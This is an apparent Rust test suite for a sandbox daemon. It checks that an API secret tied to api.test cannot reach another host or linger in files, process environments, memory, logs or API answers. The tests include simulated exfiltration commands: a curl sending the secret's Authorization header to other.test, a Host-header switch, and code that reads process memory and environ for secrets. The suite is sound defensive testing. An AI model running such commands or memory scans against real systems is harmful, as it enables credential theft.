//! Class N, secrets (issue 13 scopes 4 and 8, ADR 0068, ADR 0073): a sandbox created with a
//! secret for `api.test` tries to get its value anywhere else. Judged by the request heads
//! the test upstream's HTTPS server recorded (`https.log`) and by byte searches of
//! everything the sandbox and the daemon hold, each with a positive control:
//!
//! - S1 the placeholder sent to a host no secret names (`other.test`) arrives unchanged and
//!   is never swapped; control `secrets-any-host` (the proxy intercepts and swaps there).
//! - S2 a Host switched to `other.test` inside a session intercepted for `api.test` is not
//!   sent; control `secrets-host-switch` (the session carries it, swapped).
//! - S3 the value is in no file of the sandbox, no environment (`/proc/*/environ`), no
//!   memory of its processes, no file of the daemon's root (the store, the disk image), the
//!   daemon's log, or any API answer; control: a value the test plants in each of those
//!   places is found there by the same searches.

use super::egress::Up;
use super::harness::*;
use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;
use threadbox_api::secrets::{ListSecrets, SetSecret, SetSecretRequest};
use threadbox_api::{CreateSandboxRequest, ExecRequest, StartProcessRequest, User};

const DEADLINE: Duration = Duration::from_secs(30);

/// A daemon that trusts the upstream's test CA, with the secret `API_KEY` for `api.test`
/// set to `value` (over the API: no argv, no file holds it).
fn daemon(up: &Up, bins: &Bins, weaken: Option<&str>, value: &str) -> Daemon {
    let mut args = up.serve_args();
    args.push("--egress-upstream-ca".into());
    args.push(up.ca_file().display().to_string());
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let d = Daemon::start_with(bins, weaken, &args);
    block(d.client.call(&SetSecret {
        name: "API_KEY".into(),
        req: SetSecretRequest {
            host: "api.test".into(),
            header: None,
            format: Some("Bearer {}".into()),
            value: value.into(),
        },
    }))
    .unwrap_or_else(|e| panic!("secret set: {e}\n{}", d.log()));
    d
}

fn create(d: &Daemon, name: Option<String>, labels: BTreeMap<String, String>) -> String {
    let network = serde_json::from_value(serde_json::json!({"rules": [
        {"action": "allow", "host": "api.test"},
        {"action": "allow", "host": "other.test"},
    ]}))
    .expect("policy");
    let req = CreateSandboxRequest {
        name,
        labels,
        network: Some(network),
        secrets: vec!["API_KEY".into()],
        // Small enough that the host-side search reads the whole disk image.
        limits: threadbox_api::LimitsRequest {
            disk_bytes: Some(64 << 20),
            ..Default::default()
        },
        ..Default::default()
    };
    block(d.client.create(&req))
        .unwrap_or_else(|e| panic!("create: {e}\n{}", d.log()))
        .0
        .id
}

/// The request head the upstream recorded for `path`, waited for.
fn request(up: &Up, path: &str) -> String {
    let find = || {
        up.seen("https.log")
            .split("\n\n")
            .find(|r| r.lines().next() == Some(path))
            .map(str::to_string)
    };
    wait_for(&format!("the upstream to get {path}"), DEADLINE, || {
        find().is_some()
    });
    find().unwrap_or_default()
}

fn placeholder(d: &Daemon, id: &str) -> String {
    let r = d.sh(id, User::User, "printf %s \"$API_KEY\"");
    assert!(r.stdout.starts_with("tb_secret_"), "placeholder: {r:?}");
    r.stdout
}

/// S1. Whether the value reached a request for `other.test`; also checks the request
/// carried the placeholder (unchanged) when it was not swapped.
pub fn other_host(d: &Daemon, up: &Up, id: &str, value: &str) -> bool {
    let ph = placeholder(d, id);
    let path = format!("/s1-{}", random_hex());
    // Spliced TLS to other.test: the sandbox does not trust the upstream's test CA (-k).
    let r = d.sh(
        id,
        User::User,
        &format!("curl -sSk --max-time 20 -H \"Authorization: $API_KEY\" https://other.test{path}"),
    );
    assert_eq!(r.exit_code, Some(0), "curl to other.test: {r:?}");
    let head = request(up, &path);
    let swapped = head.contains(value);
    if !swapped {
        assert!(
            head.contains(&format!("Authorization: {ph}")),
            "the placeholder did not arrive unchanged: {head}"
        );
    }
    swapped
}

/// S2. Whether the value reached a request naming `other.test` sent inside a session
/// intercepted for `api.test`. The session's first request (to api.test) must be swapped:
/// the session is intercepted, else the case proves nothing.
pub fn host_switch(d: &Daemon, up: &Up, id: &str, value: &str) -> bool {
    let tag = random_hex();
    let script = format!(
        r#"
import http.client, os, ssl
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
c = http.client.HTTPSConnection("api.test", context=ctx, timeout=20)
c.request("GET", "/s2a-{tag}", headers={{"Authorization": os.environ["API_KEY"]}})
print("first", c.getresponse().read().decode().strip())
try:
    c.request("GET", "/s2b-{tag}", headers={{"Host": "other.test", "Authorization": os.environ["API_KEY"]}})
    print("second", c.getresponse().status)
except Exception as e:
    print("second refused", type(e).__name__)
"#
    );
    let r = d.exec(
        id,
        &ExecRequest {
            command: Some(vec!["python3".into(), "-c".into(), script]),
            timeout_secs: Some(60.0),
            ..Default::default()
        },
    );
    assert!(r.stdout.contains("first hello over tls"), "{r:?}");
    let first = request(up, &format!("/s2a-{tag}"));
    assert!(
        first.contains(&format!("Bearer {value}")),
        "the session was not intercepted (its first request was not swapped): {first}"
    );
    // Whatever of the second request reached the upstream did so before the script's
    // answer (the upstream answers after recording): no wait needed for its absence.
    let second = up
        .seen("https.log")
        .split("\n\n")
        .find(|h| h.lines().next() == Some(format!("/s2b-{tag}").as_str()))
        .map(str::to_string);
    second.is_some_and(|h| h.contains(value))
}

/// Host pids of the processes in sandbox `id`'s cgroup.
fn sandbox_pids(id: &str) -> Vec<u32> {
    let needle = format!("/{id}");
    std::fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| {
            let pid: u32 = e.file_name().to_str()?.parse().ok()?;
            let cg = std::fs::read_to_string(e.path().join("cgroup")).ok()?;
            (cg.contains("threadbox")
                && cg
                    .lines()
                    .any(|l| l.ends_with(&needle) || l.contains(&format!("{needle}/"))))
            .then_some(pid)
        })
        .collect()
}

/// Whether a readable mapping of `pid` holds `needle`.
fn memory_holds(pid: u32, needle: &[u8]) -> bool {
    use std::io::{Read, Seek, SeekFrom};
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let Ok(mut mem) = std::fs::File::open(format!("/proc/{pid}/mem")) else {
        return false;
    };
    for line in maps.lines() {
        let mut f = line.split_whitespace();
        let (Some(range), Some(perms)) = (f.next(), f.next()) else {
            continue;
        };
        if !perms.starts_with('r') || line.contains("[vvar") || line.contains("[vsyscall") {
            continue;
        }
        let Some((lo, hi)) = range.split_once('-') else {
            continue;
        };
        let (Ok(lo), Ok(hi)) = (u64::from_str_radix(lo, 16), u64::from_str_radix(hi, 16)) else {
            continue;
        };
        if hi - lo > 1 << 30 || mem.seek(SeekFrom::Start(lo)).is_err() {
            continue;
        }
        let mut buf = vec![0u8; (hi - lo) as usize];
        if mem.read_exact(&mut buf).is_ok() && contains(&buf, needle) {
            return true;
        }
    }
    false
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    let Some((&first, rest)) = needle.split_first() else {
        return true;
    };
    let mut i = 0;
    while let Some(p) = hay[i..].iter().position(|&b| b == first) {
        let at = i + p;
        if hay[at + 1..].starts_with(rest) {
            return true;
        }
        i = at + 1;
    }
    false
}

/// Files under `dir` (each up to 1 GiB; sparse disk images are read whole) holding
/// `needle`, as paths relative to `dir`.
fn files_holding(dir: &Path, needle: &[u8]) -> Vec<String> {
    let mut hits = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let Ok(ft) = e.file_type() else { continue };
            let p = e.path();
            if ft.is_dir() {
                // The running sandboxes' mount points are searched from inside.
                if !["proc", "sys", "dev", "rootfs"]
                    .iter()
                    .any(|m| p.ends_with(m))
                {
                    stack.push(p);
                }
            } else if ft.is_file()
                && e.metadata().is_ok_and(|m| m.len() <= 1 << 30)
                && std::fs::read(&p).is_ok_and(|b| contains(&b, needle))
            {
                let rel = p.strip_prefix(dir).unwrap_or(&p);
                hits.push(rel.display().to_string());
            }
        }
    }
    hits
}

/// S3. Every place `needle` was found: the sandbox's files (searched from inside, as
/// root), its processes' environments and memory (read from the host), the daemon's root
/// and log, and the answers of every read API about the sandbox and the secrets.
pub fn find_everywhere(d: &Daemon, id: &str, needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    // The pattern matches the needle without being it (the exec's argv is searched too).
    let pattern = format!("{}[{}]{}", &needle[..4], &needle[4..5], &needle[5..]);
    let r = d.sh(
        id,
        User::Root,
        &format!(
            "sync; grep -rlsE '{pattern}' /etc /home /root /tmp /var /opt /srv /mnt /run \
             2>/dev/null; echo end"
        ),
    );
    let files: Vec<&str> = r.stdout.lines().filter(|l| *l != "end").collect();
    if !files.is_empty() {
        found.push(format!("sandbox files {files:?}"));
    }
    // Read from the host: inside, a process cannot read another one's environ (each is
    // its own ptrace domain), so a search from inside would see only its own.
    let environs: Vec<u32> = sandbox_pids(id)
        .into_iter()
        .filter(|p| {
            std::fs::read(format!("/proc/{p}/environ"))
                .is_ok_and(|e| contains(&e, needle.as_bytes()))
        })
        .collect();
    if !environs.is_empty() {
        found.push(format!("a process environment (pids {environs:?})"));
    }
    for pid in sandbox_pids(id) {
        if memory_holds(pid, needle.as_bytes()) {
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            found.push(format!(
                "memory of pid {pid} ({})",
                String::from_utf8_lossy(&cmd).replace('\0', " ").trim()
            ));
        }
    }
    let files = files_holding(d.root_path(), needle.as_bytes());
    if !files.is_empty() {
        found.push(format!("the daemon's files {files:?}"));
    }
    if d.log().contains(needle) {
        found.push("the daemon's log".into());
    }
    let answers = [
        ("get", serde_json::to_string(&block(d.client.get(id)).ok())),
        (
            "list",
            serde_json::to_string(&block(d.client.list(&BTreeMap::new(), None)).ok()),
        ),
        (
            "secret ls",
            serde_json::to_string(&block(d.client.call(&ListSecrets)).ok()),
        ),
        (
            "network",
            serde_json::to_string(
                &block(
                    d.client
                        .call(&threadbox_api::network::GetNetwork { sandbox: id.into() }),
                )
                .ok(),
            ),
        ),
        (
            "network log",
            serde_json::to_string(
                &block(d.client.call(&threadbox_api::net_log::GetNetworkLog {
                    sandbox: id.into(),
                    after: None,
                    limit: Some(1000),
                    wait_ms: None,
                }))
                .ok(),
            ),
        ),
    ];
    for (what, answer) in answers {
        if answer.is_ok_and(|a| a.contains(needle)) {
            found.push(format!("the API's {what} answer"));
        }
    }
    found
}

fn value() -> String {
    format!("sk{}REAL{}", random_hex(), &random_hex()[..8])
}

/// S1–S3 against the normal build: nothing escapes.
pub fn held_everywhere() {
    let _s = serial();
    let up = Up::start_tls();
    let value = value();
    let d = daemon(&up, &normal_bins(), None, &value);
    let id = create(&d, None, BTreeMap::new());
    let mut failed = Vec::new();
    if other_host(&d, &up, &id, &value) {
        failed.push("S1: the placeholder was swapped on a request to other.test");
    }
    eprintln!("S1 placeholder to another host: held (arrived unchanged)");
    if host_switch(&d, &up, &id, &value) {
        failed.push("S2: a request naming other.test inside an api.test session carried the value");
    }
    eprintln!("S2 Host switched inside an intercepted session: held");
    // A process that used the placeholder stays up while memory is read.
    block(
        d.client.start_process(
            &id,
            &StartProcessRequest {
                shell: Some(
                    "curl -sS -H \"Authorization: $API_KEY\" https://api.test/s3 >/dev/null; \
                 exec python3 -c 'import os, time; k = os.environ[\"API_KEY\"]; time.sleep(300)'"
                        .into(),
                ),
                ..Default::default()
            },
        ),
    )
    .expect("start a process");
    request(&up, "/s3");
    let found = find_everywhere(&d, &id, &value);
    eprintln!("S3 the value searched everywhere: found in {found:?}");
    let s3 = format!("S3: the value was found in {found:?}");
    if !found.is_empty() {
        failed.push(&s3);
    }
    assert!(failed.is_empty(), "secrets escaped:\n{}", failed.join("\n"));
}

/// The controls: S1 and S2 escape against their weakened builds, and S3's searches find a
/// value planted in each place they look.
pub fn controls_detect() {
    let _s = serial();
    let weak = weakened_bins();
    let up = Up::start_tls();
    let mut missed = Vec::new();
    let value = value();
    {
        let d = daemon(&up, &weak, Some("secrets-any-host"), &value);
        let id = create(&d, None, BTreeMap::new());
        let escaped = other_host(&d, &up, &id, &value);
        eprintln!(
            "S1 control (secrets-any-host): {}",
            if escaped { "detected" } else { "MISSED" }
        );
        if !escaped {
            missed.push("S1 under secrets-any-host showed no swap".to_string());
        }
    }
    {
        let d = daemon(&up, &weak, Some("secrets-host-switch"), &value);
        let id = create(&d, None, BTreeMap::new());
        let escaped = host_switch(&d, &up, &id, &value);
        eprintln!(
            "S2 control (secrets-host-switch): {}",
            if escaped { "detected" } else { "MISSED" }
        );
        if !escaped {
            missed.push("S2 under secrets-host-switch showed no swapped request".to_string());
        }
    }
    {
        // Planted by the test, in reach of every search: a file of the sandbox, the
        // environment and memory of one of its processes, its name and a label (the store,
        // the API answers and the daemon's log of the create).
        let d = daemon(&up, &normal_bins(), None, &value);
        let plant = format!("pl{}", &random_hex()[..16]);
        let labels = BTreeMap::from([("planted".to_string(), plant.clone())]);
        let id = create(&d, Some(plant.clone()), labels);
        d.write(&id, "/home/user/planted.txt", User::User, plant.as_bytes());
        block(d.client.start_process(
            &id,
            &StartProcessRequest {
                command: Some(vec![
                    "python3".into(),
                    "-c".into(),
                    "import os, time; k = os.environ['PLANT'] * 2; time.sleep(300)".into(),
                ]),
                env: BTreeMap::from([("PLANT".to_string(), plant.clone())]),
                ..Default::default()
            },
        ))
        .expect("start a process");
        wait_for("the planting process", DEADLINE, || {
            sandbox_pids(&id).iter().any(|p| {
                std::fs::read(format!("/proc/{p}/environ"))
                    .is_ok_and(|e| contains(&e, plant.as_bytes()))
            })
        });
        let found = find_everywhere(&d, &id, &plant);
        eprintln!("S3 control (planted): found in {found:?}");
        for place in [
            "sandbox files",
            "a process environment",
            "memory of pid",
            "the daemon's files",
            "the daemon's log",
            "the API's get answer",
            "the API's list answer",
        ] {
            if !found.iter().any(|f| f.starts_with(place)) {
                missed.push(format!("S3: the planted value was not found in {place}"));
            }
        }
    }
    assert!(
        missed.is_empty(),
        "controls that missed:\n{}",
        missed.join("\n")
    );
}
